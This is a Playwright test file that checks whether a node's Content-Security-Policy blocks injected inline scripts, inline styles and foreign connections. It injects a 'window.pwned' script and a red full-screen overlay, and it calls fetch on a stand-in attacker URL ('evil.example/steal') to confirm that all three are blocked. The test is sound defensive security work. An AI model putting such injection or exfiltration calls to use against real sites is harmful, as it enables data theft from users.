import { expect, test } from '@playwright/test'
import { startNode, type NodeHandle } from './helpers'

let node: NodeHandle
test.beforeAll(async () => {
  node = await startNode()
})
test.afterAll(async () => {
  await node.destroy()
})

test('the Content-Security-Policy blocks injected inline scripts, inline styles and foreign connections', async ({
  page,
}) => {
  const response = await page.goto(node.browserUrl)
  const csp = response?.headers()['content-security-policy'] ?? ''
  expect(csp).toContain("script-src 'self'")
  expect(csp).not.toContain('unsafe-inline')
  await expect(page.getByRole('heading', { name: 'Welcome to ICN' })).toBeVisible()

  // Runs in the page (a string: the e2e project is type-checked without DOM types).
  const outcome = await page.evaluate<{
    violations: string[]
    pwned: boolean
    styleApplied: boolean
    blockedFetch: boolean
  }>(`(async () => {
    const violations = []
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective))
    const script = document.createElement('script')
    script.textContent = 'window.pwned = true'
    document.body.append(script)
    const styled = document.createElement('div')
    styled.setAttribute('style', 'position: fixed; inset: 0; background: red')
    document.body.append(styled)
    const blockedFetch = await fetch('https://evil.example/steal').then(() => false, () => true)
    await new Promise((r) => setTimeout(r, 200))
    return {
      violations,
      pwned: window.pwned === true,
      styleApplied: getComputedStyle(styled).position === 'fixed',
      blockedFetch,
    }
  })()`)
  expect(outcome.pwned).toBe(false)
  expect(outcome.styleApplied).toBe(false)
  expect(outcome.blockedFetch).toBe(true)
  expect(outcome.violations).toEqual(
    expect.arrayContaining(['script-src-elem', 'style-src-attr', 'connect-src']),
  )
})
